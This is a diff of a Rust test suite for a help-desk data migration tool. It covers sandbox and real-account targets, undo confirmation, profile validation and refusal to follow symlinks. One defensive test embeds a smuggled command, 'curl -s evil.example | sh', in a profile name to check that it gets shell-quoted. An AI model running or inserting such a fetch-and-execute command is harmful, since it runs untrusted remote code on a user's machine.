@@ -18,37 +18,44 @@ fn message(refused: &Value) -> &str {
 #[test]
 fn the_target_stays_while_a_job_runs() {
     let desk = Desk::new();
-    let bench = RunningWorkbench::open(real_project(40, &desk).file("deskferry.toml", "rate = \"20\"\n"), "");
-    let id = bench.write(&bench.plan(), 40);
-    let job = bench.until(&id, "it writes", |job| job["progress"]["phase"] == "writing");
-    assert_eq!((&job["sandbox"], &bench.project()["job"]), (&json!(false), &json!("write")));
+    let workbench =
+        RunningWorkbench::open(real_project(40, &desk).file("deskferry.toml", "rate = \"20\"\n"), "");
+    let id = workbench.write(&workbench.plan(), 40);
+    let job = workbench.until(&id, "it writes", |job| job["progress"]["phase"] == "writing");
+    assert_eq!((&job["sandbox"], &workbench.project()["job"]), (&json!(false), &json!("write")));
     assert!(job["place"].as_str().unwrap().contains("127.0.0.1"), "{job:#}");
-    let refused = bench.put("target", json!({"kind": "sandbox"})).refused(409);
+    let refused = workbench.put("target", json!({"kind": "sandbox"})).refused(409);
     assert!(message(&refused).contains("(write)"), "{refused}");
-    assert_eq!(bench.get("api/target").json()["target"]["kind"], "account");
+    assert_eq!(workbench.get("api/target").json()["target"]["kind"], "account");
     // Also if somebody edits the project, the job says where it is.
-    std::fs::write(bench.folder().join("project.toml"), "version = 1\n[target]\nsandbox = \"practice.db\"\n")
-        .unwrap();
-    assert_eq!(bench.get("api/target").json()["target"]["kind"], "sandbox");
-    assert_eq!((&bench.job(&id)["sandbox"], &bench.job(&id)["place"]), (&json!(false), &job["place"]));
-    assert_eq!(bench.post(&format!("jobs/{id}/stop"), json!({})).status, 204);
-    bench.ended(&id);
-    assert!(bench.project()["job"].is_null());
-    bench.put("target", json!({"kind": "account"})).json();
+    std::fs::write(
+        workbench.folder().join("project.toml"),
+        "version = 1\n[target]\nsandbox = \"practice.db\"\n",
+    )
+    .unwrap();
+    assert_eq!(workbench.get("api/target").json()["target"]["kind"], "sandbox");
+    assert_eq!(
+        (&workbench.job(&id)["sandbox"], &workbench.job(&id)["place"]),
+        (&json!(false), &job["place"])
+    );
+    assert_eq!(workbench.post(&format!("jobs/{id}/stop"), json!({})).status, 204);
+    workbench.ended(&id);
+    assert!(workbench.project()["job"].is_null());
+    workbench.put("target", json!({"kind": "account"})).json();
 }
 
 /// Any server may say that it is a sandbox.
 #[test]
 fn a_server_that_says_sandbox_is_a_real_account() {
     let desk = Desk::with(|options| options.off_by_default.says_sandbox = true);
-    let bench = RunningWorkbench::open(real_project(3, &desk), "");
-    let written = bench.ended(&bench.write(&bench.plan(), 3));
-    let run = bench.run_of(&written)["run"].clone();
+    let workbench = RunningWorkbench::open(real_project(3, &desk), "");
+    let written = workbench.ended(&workbench.write(&workbench.plan(), 3));
+    let run = workbench.run_of(&written)["run"].clone();
     assert_eq!((&written["state"], &run["sandbox"]), (&json!("done"), &json!(false)), "{run:#}");
     let undo = json!({"kind": "undo", "run": written["run"]});
-    assert_eq!(bench.post("jobs", undo.clone()).refused(422)["field"], "confirm");
-    bench.put("target", json!({"kind": "sandbox"})).json();
-    assert!(message(&bench.post("jobs", undo).refused(422)).contains("in a real account"));
+    assert_eq!(workbench.post("jobs", undo.clone()).refused(422)["field"], "confirm");
+    workbench.put("target", json!({"kind": "sandbox"})).json();
+    assert!(message(&workbench.post("jobs", undo).refused(422)).contains("in a real account"));
     assert_eq!(desk.customers().len(), 3);
 }
 
@@ -56,24 +63,24 @@ fn a_server_that_says_sandbox_is_a_real_account() {
 #[test]
 fn a_run_in_practice_is_undone_in_practice() {
     let desk = Desk::new();
-    let bench = RunningWorkbench::open(project(2).sandbox(&desk), "");
-    let plan = bench.plan();
-    let written = bench.done(json!({"kind": "write", "plan": plan["id"]}));
-    bench.put("target", json!({"kind": "account"})).json();
-    let undone = bench.done(json!({"kind": "undo", "run": written["run"]}));
+    let workbench = RunningWorkbench::open(project(2).sandbox(&desk), "");
+    let plan = workbench.plan();
+    let written = workbench.done(json!({"kind": "write", "plan": plan["id"]}));
+    workbench.put("target", json!({"kind": "account"})).json();
+    let undone = workbench.done(json!({"kind": "undo", "run": written["run"]}));
     assert_eq!((&undone["sandbox"], &undone["place"]), (&json!(true), &json!("practice.db")), "{undone:#}");
-    assert_eq!(bench.run_of(&undone)["run"]["counts"]["deleted"], 2);
+    assert_eq!(workbench.run_of(&undone)["run"]["counts"]["deleted"], 2);
 }
 
 #[test]
 fn only_profiles_of_the_settings_are_offered_and_taken() {
     let ferry = project(1).file("deskferry.toml", "rate = \"0\"\n[profile.shop]\nrate = \"1\"\n");
-    let bench = RunningWorkbench::open(ferry, "");
-    assert_eq!(bench.get("api/target").json()["profiles"], json!(["shop"]));
-    let refused = bench.put("target", json!({"kind": "account", "profile": "shpo"})).refused(400);
+    let workbench = RunningWorkbench::open(ferry, "");
+    assert_eq!(workbench.get("api/target").json()["profiles"], json!(["shop"]));
+    let refused = workbench.put("target", json!({"kind": "account", "profile": "shpo"})).refused(400);
     assert_eq!(refused["field"], "profile");
     assert!(message(&refused).contains("no profile \"shpo\"; they have: shop"), "{refused}");
-    let chosen = bench.put("target", json!({"kind": "account", "profile": "shop"})).json();
+    let chosen = workbench.put("target", json!({"kind": "account", "profile": "shop"})).json();
     assert_eq!(chosen["target"]["profile"], "shop");
 }
 
@@ -82,33 +89,34 @@ fn only_profiles_of_the_settings_are_offered_and_taken() {
 fn a_login_line_is_quoted() {
     let text = |profile: &str| format!("version = 1\n[target]\nprofile = \"{profile}\"\n");
     let hostile = "main; curl -s evil.example | sh";
-    let bench = RunningWorkbench::open(project(1).file("deskferry-project/project.toml", text(hostile)), "");
-    let target = bench.get("api/target").json();
+    let workbench =
+        RunningWorkbench::open(project(1).file("deskferry-project/project.toml", text(hostile)), "");
+    let target = workbench.get("api/target").json();
     assert_eq!(target["login"], "deskferry login --profile 'main; curl -s evil.example | sh'");
-    std::fs::write(bench.folder().join("project.toml"), text("main\\n")).unwrap();
-    let refused = bench.get("api/target").refused(422);
+    std::fs::write(workbench.folder().join("project.toml"), text("main\\n")).unwrap();
+    let refused = workbench.get("api/target").refused(422);
     assert!(message(&refused).contains("can't be the name of a profile"), "{refused}");
 }
 
 /// The practice help desk is damaged, say: a new one is a click away, and the former one stays.
 #[test]
 fn practice_begins_anew_with_an_empty_sandbox() {
-    let bench = RunningWorkbench::open(project(2), "");
-    let plan = bench.plan();
-    bench.done(json!({"kind": "write", "plan": plan["id"]}));
-    let practice = bench.folder().join("practice.db");
+    let workbench = RunningWorkbench::open(project(2), "");
+    let plan = workbench.plan();
+    workbench.done(json!({"kind": "write", "plan": plan["id"]}));
+    let practice = workbench.folder().join("practice.db");
     assert_eq!(std::fs::metadata(&practice).unwrap().permissions().mode() & 0o777, 0o600);
     std::fs::write(&practice, "x".repeat(5000)).unwrap();
-    let broken = bench.ended(&bench.begin(json!({"kind": "plan", "file": bench.file_id()})));
+    let broken = workbench.ended(&workbench.begin(json!({"kind": "plan", "file": workbench.file_id()})));
     assert_eq!(broken["state"], "failed", "{broken:#}");
-    bench.post("target/practice", json!({})).json();
-    let plan = bench.plan();
-    assert_eq!(bench.run_of(&plan)["report"]["counts"]["planned_inserts"], 2);
+    workbench.post("target/practice", json!({})).json();
+    let plan = workbench.plan();
+    assert_eq!(workbench.run_of(&plan)["report"]["counts"]["planned_inserts"], 2);
     let kept =
-        bench.names("").into_iter().find(|name| name.starts_with("practice.2") && name.ends_with("Z.db"));
-    assert_eq!(std::fs::read(bench.folder().join(kept.unwrap())).unwrap().len(), 5000);
-    bench.put("target", json!({"kind": "account"})).json();
-    assert!(message(&bench.post("target/practice", json!({})).refused(422)).contains("a real account"));
+        workbench.names("").into_iter().find(|name| name.starts_with("practice.2") && name.ends_with("Z.db"));
+    assert_eq!(std::fs::read(workbench.folder().join(kept.unwrap())).unwrap().len(), 5000);
+    workbench.put("target", json!({"kind": "account"})).json();
+    assert!(message(&workbench.post("target/practice", json!({})).refused(422)).contains("a real account"));
 }
 
 /// No command takes it for a flag.
@@ -116,48 +124,48 @@ fn practice_begins_anew_with_an_empty_sandbox() {
 fn a_project_may_have_the_name_of_a_flag() {
     let ferry = project(2);
     std::fs::rename(ferry.path().join("deskferry-project"), ferry.path().join("-p")).unwrap();
-    let bench = RunningWorkbench::open(ferry, "--project=-p");
-    let plan = bench.plan();
-    let written = bench.done(json!({"kind": "write", "plan": plan["id"]}));
-    bench.done(json!({"kind": "verify", "run": written["run"]}));
-    bench.done(json!({"kind": "backup"}));
+    let workbench = RunningWorkbench::open(ferry, "--project=-p");
+    let plan = workbench.plan();
+    let written = workbench.done(json!({"kind": "write", "plan": plan["id"]}));
+    workbench.done(json!({"kind": "verify", "run": written["run"]}));
+    workbench.done(json!({"kind": "backup"}));
     let found =
-        bench.post("backups/history", json!({"field": "email", "value": "person1@example.org"})).json();
+        workbench.post("backups/history", json!({"field": "email", "value": "person1@example.org"})).json();
     assert_eq!(found["history"]["customers"].as_array().unwrap().len(), 1);
-    let run = bench.run_of(&written)["run"].clone();
+    let run = workbench.run_of(&written)["run"].clone();
     let undo = run["next"].as_array().unwrap().iter().find(|step| step["kind"] == "undo").unwrap();
-    let (status, said) = pasted(&bench, &format!("{} --yes", undo["command"].as_str().unwrap()));
+    let (status, said) = pasted(&workbench, &format!("{} --yes", undo["command"].as_str().unwrap()));
     assert_eq!(status, 0, "{said}");
-    assert_eq!(bench.run_of(&written)["run"]["state"], "undone");
+    assert_eq!(workbench.run_of(&written)["run"]["state"], "undone");
 }
 
 /// A project may come from anybody.
 #[test]
 fn nothing_is_read_through_a_link() {
-    let bench = RunningWorkbench::open(project(1), "");
-    let plan = bench.plan();
+    let workbench = RunningWorkbench::open(project(1), "");
+    let plan = workbench.plan();
     let (id, job) = (plan["run"].as_str().unwrap(), plan["id"].as_str().unwrap());
-    let secret = bench.path().join("secret.json");
+    let secret = workbench.path().join("secret.json");
     std::fs::write(&secret, "{\"secret\": 4711}\n").unwrap();
     let linked = |path: &Path| {
         drop(std::fs::remove_file(path));
         std::os::unix::fs::symlink(&secret, path).unwrap();
     };
-    let run = bench.folder().join("runs").join(id);
+    let run = workbench.folder().join("runs").join(id);
     for name in ["results.csv", "rejects.csv", "report.html", "verify.jsonl"] {
         linked(&run.join(name));
-        assert_eq!(bench.get(&format!("api/runs/{id}/files/{name}")).status, 404, "{name}");
+        assert_eq!(workbench.get(&format!("api/runs/{id}/files/{name}")).status, 404, "{name}");
     }
-    assert!(!bench.get(&format!("api/runs/{id}")).json()["run"]["files"].to_string().contains("verify"));
-    linked(&bench.folder().join("runs/jobs").join(job).join("out.txt"));
-    assert_eq!(bench.get(&format!("api/jobs/{job}/output")).status, 422);
+    assert!(!workbench.get(&format!("api/runs/{id}")).json()["run"]["files"].to_string().contains("verify"));
+    linked(&workbench.folder().join("runs/jobs").join(job).join("out.txt"));
+    assert_eq!(workbench.get(&format!("api/jobs/{job}/output")).status, 422);
     linked(&run.join("report.json"));
-    assert_eq!(bench.get(&format!("api/runs/{id}")).status, 422);
+    assert_eq!(workbench.get(&format!("api/runs/{id}")).status, 422);
     // A folder that is a link is no run.
-    let moved = bench.path().join("moved");
+    let moved = workbench.path().join("moved");
     std::fs::rename(&run, &moved).unwrap();
     std::os::unix::fs::symlink(&moved, &run).unwrap();
     for path in [format!("api/runs/{id}"), format!("api/runs/{id}/files/results.csv")] {
-        assert_eq!(bench.get(&path).status, 404, "{path}");
+        assert_eq!(workbench.get(&path).status, 404, "{path}");
     }
 }
